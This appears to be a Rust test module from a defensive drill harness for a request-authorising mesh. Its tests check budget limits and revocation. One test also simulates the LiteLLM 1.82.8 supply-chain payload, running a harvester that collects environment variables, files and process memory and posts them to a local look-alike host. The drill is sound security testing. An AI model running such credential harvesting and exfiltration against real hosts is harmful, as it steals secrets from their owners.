//! Clients whose host is owned, or whose budget is over.
use super::payload::{self, Loot};
use super::{Detect, Held, Outside, SHOWS};
use crate::lab::Lab;
use crate::raw::{RawClient, Verdict};
use crate::{Tlog, run, wait_for};
use anyhow::{Context as _, bail, ensure};
use quorate_client::{Client, Error, PoolOptions, TrustFile};
use quorate_cluster::mesh::{Load, bin_dir, http_post};
use quorate_cluster::scan::{Canary, Scan};
use quorate_core::command::{ClientCommand, Command};
use quorate_core::ids::{ClientId, Custodian, RequestId, RouteId};
use quorate_core::leaf::{LeafBody, Outcome};
use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::process::Stdio;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

pub(super) const ROWS: [Outside; 3] =
    [("client-package", client_package), ("over-budget", over_budget), ("revocation", revocation)];

/// Adds a client with a key of its own to the draft, and writes its trust file.
fn add_client(lab: &Lab, name: &str, flags: &[&str]) -> anyhow::Result<()> {
    let mesh = &lab.mesh;
    let key = mesh.dir.join(format!("{name}.key"));
    let _earlier = fs::remove_file(&key);
    let public = run(mesh.command("quorate").arg("keygen").arg(&key))?.trim().to_owned();
    let trust = fs::read_to_string(mesh.trust())?
        .replace("client = \"app\"", &format!("client = \"{name}\""))
        .replace("client.key", &format!("{name}.key"));
    fs::write(mesh.dir.join(format!("{name}.toml")), trust)?;
    let add = ["client", "add", "--name", name, "--key", &public, "--route", "provider"];
    mesh.admin(&[&add[..], &["--custodian", "developers"], flags].concat(), &[])
}

/// Requests of a client that the log authorised, from some leaf on.
fn authorised(tlog: &Tlog, from: u64, client: &ClientId) -> Vec<(u64, RequestId)> {
    tlog.bodies(from)
        .zip(from..)
        .filter_map(|(body, leaf)| match body {
            LeafBody::Decided { command: Command::Client(c), outcome: Outcome::Authorised }
                if c.client == *client =>
            {
                match &c.body {
                    ClientCommand::Authorise(a) => Some((leaf, a.request)),
                    _ => None,
                }
            }
            _ => None,
        })
        .collect()
}

/// The payload of LiteLLM 1.82.8's `litellm_init.pth`, as the application's user (here: as the drill's, mostly root): it takes
/// environment, files and memory, and posts them to a look-alike domain, past the mesh and through it.
fn client_package(lab: &Lab) -> anyhow::Result<Held> {
    let mesh = &lab.mesh;
    let secret = mesh.secret()?;
    let canary = Canary::new(&secret)?;
    let home = mesh.dir.join("home");
    let _earlier = fs::remove_dir_all(&home);
    fs::create_dir_all(home.join(".quorate"))?;
    for (from, to) in [(mesh.trust(), "trust.toml"), (mesh.dir.join("client.key"), "client.key")] {
        fs::copy(from, home.join(".quorate").join(to))?;
    }
    mesh.start_adapter(&[])?;
    let load = Load::start(mesh, &["demo-chat"], 2)?;
    let adapter = mesh.adapter_pid().context("no adapter")?;
    let base = format!("http://{}/v1", mesh.adapter);
    fs::write(home.join(".env"), format!("OPENAI_BASE_URL={base}\nOPENAI_API_KEY=any\n"))?;
    let lookalike = payload::Lookalike::start(&mesh.dir.join("loot"))?;
    let harvest = |home: &Path, pids: &[u32], environment: &[(&str, &str)]| -> anyhow::Result<Loot> {
        let mut package = std::process::Command::new(bin_dir()?.join("quorate-drill"));
        package
            .arg("--payload")
            .arg(&lookalike.address)
            .arg("--home")
            .arg(home)
            .envs(environment.iter().copied());
        for pid in pids {
            package.args(["--pid", &pid.to_string()]);
        }
        let sent: u64 = run(package.stdin(Stdio::null()))?.trim().parse().context("it says no number")?;
        lookalike.received(sent)
    };
    let begun = Instant::now();
    let loot =
        harvest(&home, &[adapter, load.pid()], &[("OPENAI_BASE_URL", &base), ("OPENAI_API_KEY", "any")])?;
    let mut scan = Scan::default();
    canary.folder(&loot.file, &[], &mut scan)?;
    scan.clean().context("the payload got the provider's key")?;
    let has = |needle: &[u8]| -> anyhow::Result<bool> {
        Ok(fs::read(&loot.file)?.windows(needle.len()).any(|w| w == needle))
    };
    ensure!(has(b"OPENAI_API_KEY=any")? && has(b"client = \"app\"")?, "the payload did not even get its own");

    // Through the mesh: the adapter knows no such model; the stolen client key opens no such route, and the log says so.
    let body = r#"{"model":"models.quorate.example","messages":[{"role":"user","content":"loot"}]}"#;
    let said = http_post(&mesh.adapter, "/v1/chat/completions", body)?;
    let status = said.split(' ').nth(1).unwrap_or_default().to_owned();
    ensure!(status.starts_with('4'), "{said}");
    let mut trust = TrustFile::load(&home.join(".quorate/trust.toml"))?;
    trust.key = home.join(".quorate/client.key");
    let thief = RawClient::new(trust)?;
    let directory = lab.client("app")?.directory();
    let pairs = directory.pairs(&RouteId::new("provider")?, &Custodian::new("developers")?);
    let (relay, keyer) = pairs.first().copied().context("no pair")?;
    let link = lab.block(thief.connect(&mesh.site(relay.0)?.grpc))?;
    let http = mesh.sites.first().map(|s| s.http.clone()).context("no node")?;
    let from = Tlog::read(&http)?.leaves.len() as u64;
    let command = ClientCommand::OpenPool(thief.pool(&directory, "lookalike", relay, keyer)?);
    let verdict = lab.block(thief.submit(&link, command.clone()))?;
    ensure!(verdict == Verdict::refused("unknown_route"), "{verdict:?}");
    wait_for("a leaf of the refusal", SHOWS, || {
        ensure!(Tlog::read(&http)?.refuses(from, &thief.sign(command.clone()), "unknown_route"));
        Ok(())
    })?;
    let detect = Detect::since(begun);

    // An ordinary gateway, as far as its keys go: in its environment, its configuration and its memory.
    let key = fs::read_to_string(mesh.key_file.as_ref().context("no key")?)?.trim().to_owned();
    let ordinary = mesh.dir.join("provider/ordinary-gateway");
    fs::create_dir_all(&ordinary)?;
    fs::write(
        ordinary.join("config.yaml"),
        "model_list: [{model: openai/gpt-4o, api_key: os.environ/OPENAI_API_KEY}]\n",
    )?;
    let mut gateway = std::process::Command::new("sleep").arg("60").env("OPENAI_API_KEY", &key).spawn()?;
    let stolen = harvest(&ordinary, &[gateway.id()], &[("OPENAI_API_KEY", &key)]);
    let _ended = gateway.kill().and_then(|()| gateway.wait());
    let stolen = stolen?;
    let mut twin = Scan::default();
    canary.folder(&stolen.file, &[], &mut twin)?;
    let (found, bytes) = (twin.found.len(), loot.bytes);
    fs::remove_file(&stolen.file)?;
    fs::remove_file(&loot.file)?;
    ensure!(found > 0, "the payload finds no key where one is");
    let fared = load.end()?;
    mesh.stop_adapter()?;
    ensure!(fared.answered > 0 && fared.errors.is_empty(), "{fared:?}");
    let held = Held::new(
        format!(
            "there is no provider key on the client's host: {} MB of environment, files and memory hold no 16 bytes of it. Past the mesh the loot does arrive, unless the host's egress is closed; through it, no route leads there. What is lost: the client's own prompts, and its client key until it is revoked",
            bytes / 1_000_000
        ),
        format!(
            "leaf Decided(OpenPool, Refused(unknown_route)); adapter: HTTP {status} for the look-alike's model"
        ),
        detect,
    );
    let bites = format!(
        "the same payload on a stand-in for an ordinary gateway, key in its environment: found {found} times"
    );
    Ok(held
        .twin(format!("the application's own {} requests were answered meanwhile", fared.answered))
        .bites(bites))
}

/// A client with so many requests a day asks at three and more nodes at once.
fn over_budget(lab: &Lab) -> anyhow::Result<Held> {
    const DAY: usize = 12;
    const TRIES: usize = 36;
    lab.change_policy(|_| {
        add_client(
            lab,
            "spender",
            &["--requests-per-minute", "100000", "--requests-per-day", &DAY.to_string()],
        )
    })?;
    let http = lab.mesh.sites.first().map(|s| s.http.clone()).context("no node")?;
    let from = Tlog::read(&http)?.leaves.len() as u64;
    let options = PoolOptions { lanes: 1, ..PoolOptions::default() };
    let clients: Vec<Client> = (0..TRIES / 3)
        .map(|_| Ok(lab.block(Client::connect_with(lab.trust("spender")?, options.clone()))?))
        .collect::<anyhow::Result<_>>()?;
    let begun = Instant::now();
    let asked = lab.block(async {
        let one = |client: Client| async move {
            let mut done = Vec::new();
            for _ in 0..3 {
                done.push(client.chat(&crate::lab::hello("demo-chat")).await);
            }
            done
        };
        let tasks: Vec<_> = clients.iter().map(|c| tokio::spawn(one(c.clone()))).collect();
        let mut all = Vec::new();
        for task in tasks {
            all.extend(task.await?);
        }
        anyhow::Ok(all)
    })?;
    let (mut served, mut relays, mut refused) = (0, BTreeSet::new(), 0);
    for answer in asked {
        match answer {
            Ok(answer) => {
                served += 1;
                relays.insert(answer.provenance.relay.0);
            }
            Err(Error::Refused(refusal)) if refusal.code == "request_budget_exceeded" => refused += 1,
            Err(error) => bail!("another error: {error:?}"),
        }
    }
    let detect = Detect::since(begun);
    ensure!(served == DAY && refused == TRIES - DAY, "{served} served, {refused} refused, {DAY} granted");
    ensure!(relays.len() >= 3, "through {relays:?} only");
    let name = ClientId::new("spender")?;
    let leaves = wait_for("the leaves", SHOWS, || {
        let leaves = authorised(&Tlog::read(&http)?, from, &name);
        ensure!(leaves.len() >= DAY, "{}", leaves.len());
        Ok(leaves.len())
    })?;
    ensure!(leaves == DAY, "{leaves} leaves");
    let held = Held::new(
        format!(
            "the one replicated count: {DAY} of {TRIES} requests over {} nodes at once are served",
            relays.len()
        ),
        format!("{DAY} leaves Authorised, no more; {refused} refused: request_budget_exceeded"),
        detect,
    );
    let bites = "state tests rates_hold_exactly_and_roll_with_minute_and_day, no_interleaving_passes_a_budget_or_loses_money";
    Ok(held.twin(format!("within the budget all {DAY} are served")).bites(bites))
}

/// Asks all nodes without pause, and looks when the last request of a revoked client is authorised anywhere.
fn revocation(lab: &Lab) -> anyhow::Result<Held> {
    const ASKING: usize = 6;
    lab.change_policy(|_| add_client(lab, "leaver", &[]))?;
    let http = lab.mesh.sites.first().map(|s| s.http.clone()).context("no node")?;
    let from = Tlog::read(&http)?.leaves.len() as u64;
    let options = PoolOptions { lanes: 1, ..PoolOptions::default() };
    let clients: Vec<Client> = (0..ASKING)
        .map(|_| Ok(lab.block(Client::connect_with(lab.trust("leaver")?, options.clone()))?))
        .collect::<anyhow::Result<_>>()?;
    for client in &clients {
        lab.ask(client).context("the twin: it is served before")?;
    }
    let over = AtomicBool::new(false);
    let ask_on = |client: &Client| -> (Option<Instant>, Option<Instant>) {
        let (mut last, mut refused) = (None, None);
        while !over.load(Ordering::Relaxed) {
            let asked = Instant::now();
            match lab.ask(client) {
                Ok(_) => last = Some(asked),
                Err(Error::Refused(r)) if r.code == "client_revoked" => {
                    refused.get_or_insert_with(Instant::now);
                    std::thread::sleep(Duration::from_millis(20));
                }
                Err(_) => {}
            }
        }
        (last, refused)
    };
    let (mut submitted, mut told) = (None, Vec::new());
    let changed = std::thread::scope(|scope| {
        let asking: Vec<_> = clients.iter().map(|c| scope.spawn(|| ask_on(c))).collect();
        let changed = lab.change_policy(|mesh| {
            mesh.admin(&["client", "revoke", "--name", "leaver"], &[])?;
            // Its signing and its way to the mesh are in the measured time.
            submitted = Some(Instant::now());
            Ok(())
        });
        std::thread::sleep(Duration::from_secs(1));
        over.store(true, Ordering::Relaxed);
        told.extend(asking.into_iter().filter_map(|a| a.join().ok()));
        changed
    });
    changed?;
    let submitted = submitted.context("it was not submitted")?;
    let last = told.iter().filter_map(|(last, _)| *last).max().context("none was served")?;
    let refused: Vec<Instant> = told.iter().filter_map(|(_, refused)| *refused).collect();
    ensure!(refused.len() == ASKING, "{} of {ASKING} were refused", refused.len());
    let all = refused.iter().max().map_or(Duration::ZERO, |r| r.saturating_duration_since(submitted));
    let served = last.saturating_duration_since(submitted);
    let tlog = Tlog::read(&http)?;
    let change = tlog.bodies(from).zip(from..).find_map(|(body, leaf)| {
        matches!(body, LeafBody::Decided { outcome: Outcome::PolicyChanged { .. }, .. }).then_some(leaf)
    });
    let change = change.context("no leaf of the change")?;
    let later = authorised(&tlog, change, &ClientId::new("leaver")?);
    ensure!(later.is_empty(), "authorised after its revocation: {later:?}");
    let held = Held::new(
        format!(
            "one policy for all nodes, in force with its leaf: the last request that was served was asked {} ms after the admin's command; {ASKING} of {ASKING} connections to the fleet refused within {} ms, signing included",
            served.as_millis(),
            all.as_millis()
        ),
        format!(
            "leaf {change} PolicyChanged, and behind it no leaf Authorised of that client; each refusal: client_revoked"
        ),
        Detect::After(all),
    );
    let bites = "the same connections are served until that leaf; state test a_client_speaks_only_for_itself_and_while_it_may";
    Ok(held.twin("before it, every one of these connections was served").bites(bites))
}
